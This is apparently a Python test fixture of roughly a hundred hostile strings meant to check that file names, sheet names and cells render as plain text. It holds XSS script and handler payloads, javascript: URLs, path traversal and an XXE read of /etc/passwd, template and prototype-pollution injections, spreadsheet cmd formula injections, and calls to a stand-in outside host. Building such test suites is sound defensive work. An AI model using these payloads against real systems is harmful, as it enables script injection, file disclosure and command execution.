"""A hundred texts that a file may hold to do harm, by what they try. `ran()` is the trap that the tests lay.

As file names, sheet names, headers, cells and names of assets they have to be shown as what they are: text.
"""

from __future__ import annotations

_SCRIPT = (
    "<script>ran()</script>",
    "<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
    "<script type=module>import('https://elsewhere.example/x.js')</script>",
    "\"><script>ran('attribute')</script>",
    "'><script>ran('quote')</script>",
    "</title><script>ran('title')</script>",
    "</textarea><script>ran('textarea')</script>",
    "</script><script>ran('closed')</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<script\n>ran('newline')</script\n>",
    "<script>/*</script>*/ran()</script>",
    "<script>window['ran']()</script>",
    '<noscript><p title="</noscript><script>ran()</script>">',
    "<template><script>ran()</script></template>",
    "<base href=https://elsewhere.example/>",
    "<meta http-equiv=refresh content=0;url=https://elsewhere.example/>",
)
_HANDLER = (
    "<img src=x onerror=ran()>",
    '<img src="x" onerror="ran()">',
    '<IMG """><SCRIPT>ran()</SCRIPT>">',
    "<img src=https://elsewhere.example/pixel.png>",
    "<body onload=ran()>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<marquee onstart=ran()>",
    "<a onmouseover=ran()>hover</a>",
    "<div onpointerenter=ran()>hover</div>",
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "<iframe src=https://elsewhere.example/></iframe>",
    "<object data=https://elsewhere.example/></object>",
    "<embed src=https://elsewhere.example/>",
    "<form action=https://elsewhere.example/><button>send</button></form>",
    '" onfocus=ran() autofocus x="',
    "' onmouseover='ran()",
    "x onerror=ran() y",
    "<custom-element style=animation-name:x onanimationstart=ran()>",
    "<dialog open onclose=ran()><form method=dialog></form></dialog>",
)
_SVG = (
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
    "<svg><use href=https://elsewhere.example/x.svg#x></svg>",
    "<svg/onload=ran()//",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
    "<![CDATA[<svg onload=ran()>]]>",
    "<!--><svg onload=ran()>-->",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
)
_URL = (
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "javascript://elsewhere.example/%0Aran()",
    "java\tscript:ran()",
    " javascript:ran()",
    "data:text/html,<script>parent.ran()</script>",
    "vbscript:ran()",
    "//elsewhere.example/x",
    "https://elsewhere.example/@127.0.0.1/",
    "<a href=javascript:ran()>open</a>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "blob:https://elsewhere.example/x",
)
_TEMPLATE = (
    "{{constructor.constructor('ran()')()}}",
    "${ran()}",
    "#{ran()}",
    "<%= ran() %>",
    "{{7*7}}",
    "[[ran()]]",
    "`${ran()}`",
    "{% raw %}{{ran()}}",
    "%s %n %x %d",
    "';ran();//",
    '";ran();//',
    '\\";ran();//',
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    '{"__proto__":{"ran":true}}',
)
_FORMULA = (
    '=HYPERLINK("https://elsewhere.example","open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("https://elsewhere.example")',
)
_ENTITY = (
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "<style>*{display:none}</style>",
    "</style><script>ran()</script>",
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "x;background:url(https://elsewhere.example/x.png)",
    "[open](javascript:ran())",
    "![x](https://elsewhere.example/x.png)",
    "**bold** _it_ `code` # heading",
)
_NAME = ("__proto__", "constructor", "toString", "null", "undefined", "NaN")
_UNICODE = (
    "bidi \u202egnp.exe\u202c end",
    "zero\u200bwidth\u200djoined\ufeffname",
    "combining " + "\u0301\u0316\u0489" * 12,
    "very long " + "wide" * 60,  # no space to break at; 250 characters
)

KINDS = {
    "script": _SCRIPT,
    "handler": _HANDLER,
    "svg": _SVG,
    "url": _URL,
    "template": _TEMPLATE,
    "formula": _FORMULA,
    "entity": _ENTITY,
    "name": _NAME,
    "unicode": _UNICODE,
}
HOSTILE = tuple(text for kind in KINDS.values() for text in kind)
